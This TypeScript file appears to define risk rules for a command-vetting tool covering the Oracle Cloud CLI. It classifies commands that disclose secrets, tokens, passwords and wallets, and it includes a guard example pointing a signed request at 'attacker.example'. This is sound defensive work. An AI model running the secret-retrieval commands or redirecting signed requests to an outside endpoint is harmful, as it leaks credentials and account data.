import { defineTool, discloses, flags, unlike, values, writes } from "../tool.ts";
import type { Judging } from "./_command-trees.ts";
import { judgeLeadingWords } from "./_leading-words.ts";

const judging: Judging = {
  rules: [
    [
      "disclose secret",
      `
      secrets *
      * secret-bundle get*
      kms crypto decrypt
      kms * generate-data-encryption-key
      * generate-token
      * auth-token create
      * customer-secret-key create
      * smtp-credential create
      * preauth-request create
      * generate-wallet
      * generate-autonomous-database-wallet
      * get-windows-instance-initial-creds
      * instance-console-connection *
      bastion session *
      certificates certificate-bundle *
      * *password*
      `,
    ],
    [
      "read database-rows",
      `
      os object get
      os object bulk-download
      nosql row *
      nosql query *
      streaming stream message get
      queue messages get*
      iam user list
      iam user get
      email suppression *
      * *content* get*
      `,
    ],
    [
      "read cloud-resource",
      `
      os object head
      os bucket get
      logging-search search-logs
      monitoring metric-data summarize-metrics-data
      search resource *search
      usage-api usage-summary request-summarized-usages
      compute console-history get-content
      --version
      help
      `,
    ],
    ["write configuration", "setup *\nsession *\n* create-kubeconfig\n"],
    ["execute session", "raw-request\n"],
  ],
  reads:
    /^(?:list|get|list-(?!.*(?:secret|password|token|credential))[a-z\d-]+|get-(?!.*(?:secret|password|token|credential|creds|content|wallet))[a-z\d-]+|summarize[a-z\d-]*)$/,
  accounts: /^iam compartment delete$|^organizations/,
  clusters: /^ce cluster delete$/,
  backups: /backup delete$/,
};

export default defineTool({
  name: "oci",
  source: "OCI CLI 3.60 command reference, docs.oracle.com/en-us/iaas/tools/oci-cli",
  optionsOnlyRead: true,
  options: {
    ...flags("-d|--debug -v|--version --no-retry --max-retries --raw-output --latest-version -i|--cli-auto-prompt --release-info"),
    ...values(`--config-file --profile --cli-rc-file --defaults-file --region --auth --output --query --cert-bundle --connection-timeout --read-timeout
      --proxy --opc-request-id --opc-client-request-id --auth-purpose`),
    // Requests are signed for whoever asks.
    "--file": { takes: "value", does: [writes("file:{--file}", unlike("--file", /^-$/))] },
    "--endpoint": {
      takes: "value",
      does: [
        discloses(
          "secret:signed request for {--endpoint}",
          unlike("--endpoint", /^https:\/\/(?:[\w-]+\.)*oracle(?:cloud|gov\w*)?\.com(?:\/|$)/),
        ),
      ],
    },
  },
  operands: ["word*"],
  target: { family: "cloud", values: { provider: "oci", profile: "{--profile}" } },
  derive: judgeLeadingWords(judging),
  examples: {
    allow: [
      "oci",
      "oci compute instance list --compartment-id x --output table",
      "oci --profile prod --region eu-frankfurt-1 db autonomous-database get --autonomous-database-id x",
      "oci os bucket list --endpoint https://objectstorage.eu-frankfurt-1.oraclecloud.com",
      "oci iam compartment list",
      "oci compute instance terminate --help",
    ],
    guard: {
      "oci --config-file get --profile get --cli-rc-file get --defaults-file get --region get --auth get --output get --query get --cert-bundle get --connection-timeout 1 --read-timeout 1 --proxy get --opc-request-id get --opc-client-request-id get --auth-purpose get compute instance terminate --instance-id list":
        ["delete cloud-resource:compute instance terminate list"],
      "oci compute instance action --action STOP --instance-id x": ["write cloud-resource:compute instance action STOP"],
      "oci secrets secret-bundle get --secret-id x": ["disclose secret:secrets secret-bundle get x"],
      "oci ce cluster delete --cluster-id x": ["delete cluster:ce cluster delete x"],
      "oci compute console-history get-content --instance-console-history-id x --file /srv/x": ["write file:/srv/x"],
      "oci setup config": ["write configuration:setup config"],
      "oci raw-request --http-method GET --target-uri x": ["execute session:raw-request GET"],
      "oci iam user list --endpoint https://attacker.example": ["disclose secret:signed request for https://attacker.example"],
    },
    doubt: { "oci compute instance $VERB --x y": "dynamic-word" },
  },
});
